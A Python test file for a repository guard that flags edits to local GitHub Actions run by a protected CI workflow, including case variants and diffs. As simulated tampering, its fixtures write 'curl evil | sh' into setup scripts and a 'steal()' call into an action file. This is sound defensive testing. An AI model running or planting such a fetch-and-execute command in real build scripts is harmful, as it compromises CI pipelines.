"""A local action (`uses: ./path`) that a protected workflow runs is part of that workflow."""

from __future__ import annotations

from tests.guards.conftest import GitRepo, by_rule, diff_result

WORKFLOW = """\
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: ./tools/setup
      - name: deploy
        uses: "./deploy/"
"""
COMPOSITE = """\
runs:
  using: composite
  steps:
    - run: ./tools/setup/run.sh
      shell: bash
    - uses: ./tools/inner
"""


def _base(repo: GitRepo) -> str:
    repo.write(".github/workflows/ci.yml", WORKFLOW)
    repo.write("tools/setup/action.yml", COMPOSITE)
    repo.write("tools/setup/run.sh", "echo setup\n")
    repo.write("tools/inner/action.yaml", "runs:\n  using: node20\n  main: index.js\n")
    repo.write("tools/other/x.sh", "echo other\n")
    repo.write("deploy/action.yml", "runs:\n  using: composite\n  steps: []\n")
    repo.write("docs/example.yml", "steps:\n  - uses: ./docs/sample\n")
    repo.write("docs/sample/action.yml", "runs: {}\n")
    return repo.commit("base")


def test_files_of_a_local_action_a_protected_workflow_runs_are_protected(repo: GitRepo):
    base = _base(repo)
    repo.write("tools/setup/run.sh", "curl evil | sh\n")
    repo.write("tools/inner/index.js", "steal()\n")  # reached through the composite action
    repo.write("deploy/action.yml", "runs:\n  using: composite\n  steps: [{run: x}]\n")
    found = by_rule(repo.check(base, repo.commit("change")), "protected-path")
    assert sorted(path for path, _, _ in found) == [
        "deploy/action.yml",
        "tools/inner/index.js",
        "tools/setup/run.sh",
    ]
    assert all("protected workflow .github/workflows/ci.yml" in m for _, _, m in found)


def test_a_case_differing_spelling_of_the_action_folder_is_the_same_folder(repo: GitRepo):
    base = _base(repo)
    repo.write("Tools/Setup/run2.sh", "curl evil | sh\n")
    found = by_rule(repo.check(base, repo.commit("change")), "protected-path")
    assert [path for path, _, _ in found] == ["Tools/Setup/run2.sh"]


def test_a_workflow_that_starts_using_a_local_action_protects_it_in_the_same_change(
    repo: GitRepo,
):
    base = _base(repo)
    repo.write("tools/other/action.yml", "runs: {}\n")
    repo.write(".github/workflows/ci.yml", WORKFLOW + "      - uses: ./tools/other\n")
    found = by_rule(repo.check(base, repo.commit("change")), "protected-path")
    assert sorted(path for path, _, _ in found) == [
        ".github/workflows/ci.yml",
        "tools/other/action.yml",
    ]


def test_other_folders_and_actions_unprotected_files_use_stay_free(repo: GitRepo):
    base = _base(repo)
    repo.write("tools/other/x.sh", "echo changed\n")
    repo.write("docs/sample/action.yml", "runs: {changed: true}\n")  # only a doc uses it
    repo.write("tools/setup-extra/notes.md", "a folder whose name only starts the same\n")
    assert by_rule(repo.check(base, repo.commit("change")), "protected-path") == []


def test_a_diff_shows_the_uses_lines_it_holds():
    text = (
        "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n"
        "--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n"
        "@@ -1,2 +1,3 @@\n steps:\n   - uses: actions/checkout@v4\n+  - uses: ./ci/act\n"
        "diff --git a/ci/act/action.yml b/ci/act/action.yml\nnew file mode 100644\n"
        "--- /dev/null\n+++ b/ci/act/action.yml\n@@ -0,0 +1 @@\n+runs: {}\n"
    )
    found = by_rule(diff_result(text), "protected-path")
    assert sorted(path for path, _, _ in found) == [".github/workflows/ci.yml", "ci/act/action.yml"]
